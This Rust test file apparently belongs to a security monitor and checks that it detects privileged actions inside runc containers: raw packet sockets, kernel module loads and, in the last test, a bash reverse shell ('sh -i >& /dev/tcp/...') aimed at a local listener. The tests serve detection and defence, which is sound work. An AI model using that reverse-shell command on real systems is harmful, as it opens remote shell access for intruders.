//! The same in a container of runc, with the tools of this machine inside.
use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use super::Call;
use crate::harness::{Live, live};

/// A container's folder, with a specification that `change` has altered.
fn bundle(folder: &Path, process: &[&str], environment: &[String]) -> Option<()> {
    let rootfs = folder.join("rootfs");
    for name in ["usr", "etc", "dev", "proc", "sys", "work", "test", "tmp"] {
        fs::create_dir_all(rootfs.join(name)).expect("a folder");
    }
    for name in ["bin", "sbin", "lib", "lib64"] {
        std::os::unix::fs::symlink(format!("usr/{name}"), rootfs.join(name)).expect("a link");
    }
    let made = Command::new("runc").arg("spec").current_dir(folder).status();
    if !made.is_ok_and(|status| status.success()) {
        eprintln!("SKIPPED: runc is not installed");
        return None;
    }
    let file = folder.join("config.json");
    let mut spec: Value = serde_json::from_slice(&fs::read(&file).expect("a file")).expect("JSON");
    spec["process"]["terminal"] = false.into();
    spec["process"]["args"] = json!(process);
    spec["process"]["cwd"] = "/work".into();
    let all = spec["process"]["env"].as_array_mut().expect("a list");
    all.extend(environment.iter().map(|pair| json!(pair)));
    for set in ["bounding", "effective", "permitted"] {
        let capabilities = spec["process"]["capabilities"][set].as_array_mut().expect("a list");
        capabilities.extend(["CAP_SYS_MODULE", "CAP_NET_RAW"].map(Value::from));
    }
    let namespaces = spec["linux"]["namespaces"].as_array_mut().expect("a list");
    namespaces.retain(|namespace| namespace["type"] != "network");
    let binary = std::env::current_exe().expect("this binary");
    let work = folder.join("work");
    fs::create_dir(&work).expect("a folder");
    let mounts = spec["mounts"].as_array_mut().expect("a list");
    mounts.push(bind(Path::new("/usr"), "/usr", "ro"));
    mounts.push(bind(&work, "/work", "rw"));
    mounts.push(bind(binary.parent().expect("a folder"), "/test", "ro"));
    fs::write(file, spec.to_string()).expect("a file");
    Some(())
}

fn bind(from: &Path, to: &str, access: &str) -> Value {
    json!({ "destination": to, "type": "bind", "source": from, "options": ["rbind", access] })
}

/// Runs a program in a container. Says what its processes did that is privileged, after they were started there.
fn run(live: &mut Live, folder: &Path) -> Vec<Call> {
    let name = format!(
        "vespid-{}",
        folder.file_name().expect("a name").to_string_lossy().replace('.', "")
    );
    let mut runc = Command::new("runc");
    let runc = runc.args(["run", &name]).current_dir(folder);
    live.run(runc.stdout(Stdio::null()));
    // runc itself joins the container by an exec of its own.
    let begins = |event: &Value| {
        let exec = &event["exec"];
        let cgroup = exec["image"]["cgroup_path"].as_str();
        cgroup.is_some_and(|cgroup| cgroup.ends_with(&format!("/{name}"))) && exec["filename"] != "/proc/self/exe"
    };
    let mut inside = Vec::new();
    let mut calls = Vec::new();
    for event in &live.events {
        if begins(event) {
            inside.push(&event["pid"]);
        } else if inside.contains(&&event["pid"]) && event["fork"].is_object() {
            inside.push(&event["fork"]["child_pid"]);
        } else if inside.contains(&&event["pid"]) && event["privileged"].is_object() {
            calls.push(Call::of(event));
        }
    }
    assert!(!inside.is_empty(), "nobody ran in {name}");
    calls
}

/// Runs this test's binary as an actor in a container.
fn act(act: &str) -> Option<(Vec<Call>, tempfile::TempDir)> {
    let mut live = live()?;
    let folder = tempfile::tempdir().expect("a folder");
    let binary = std::env::current_exe().expect("this binary");
    let binary = format!("/test/{}", binary.file_name()?.to_str()?);
    let environment = [
        "VESPID_TEST_ACT=privileged".to_owned(),
        format!("VESPID_TEST_ARGUMENT={act}"),
    ];
    bundle(
        folder.path(),
        &[&binary, "--exact", "actor::acts", "--test-threads=1"],
        &environment,
    )?;
    fs::write(folder.path().join("work/module.ko"), "no module").expect("a file");
    let calls = run(&mut live, folder.path());
    Some((calls, folder))
}

#[test]
fn a_packet_socket_in_a_container() {
    let Some((calls, _folder)) = act("raw-socket") else {
        return;
    };
    let [call] = calls.as_slice() else { panic!("{calls:#?}") };
    let code = libc::AF_PACKET | libc::SOCK_RAW << 16;
    assert_eq!(call.what, json!({ "op": "raw_socket", "code": code }));
    assert!(call.result > 2);
}

#[test]
fn a_module_in_a_container_has_the_path_that_is_seen_there() {
    let Some((calls, _folder)) = act("module") else { return };
    let [call] = calls.as_slice() else { panic!("{calls:#?}") };
    assert_eq!(
        call.what,
        json!({ "op": "load_module", "code": 1, "detail": "/work/module.ko" })
    );
    assert!(call.result < 0);
}

#[test]
fn a_reverse_shell_in_a_container() {
    let Some(mut live) = live() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let remote = listener.local_addr().expect("an address");
    let folder = tempfile::tempdir().expect("a folder");
    let command = format!("sh -i >& /dev/tcp/127.0.0.1/{} 0>&1", remote.port());
    if bundle(folder.path(), &["/bin/bash", "-c", &command], &[]).is_none() {
        return;
    }
    let attacker = std::thread::spawn(move || {
        use std::io::Write;
        let (mut shell, _) = listener.accept().expect("a connection");
        shell.write_all(b"exit\n").expect("a command");
        // It reads until the shell has ended.
        std::io::copy(&mut shell, &mut std::io::sink()).expect("its output");
    });
    let calls = run(&mut live, folder.path());
    attacker.join().expect("a shell");
    for descriptor in [Value::Null, json!(1), json!(2)] {
        let became = |call: &&Call| call.what["op"] == "stdio_socket" && call.what["code"] == descriptor;
        let call = calls
            .iter()
            .find(became)
            .unwrap_or_else(|| panic!("{descriptor}: {calls:#?}"));
        assert_eq!(call.what["detail"], remote.to_string());
    }
}
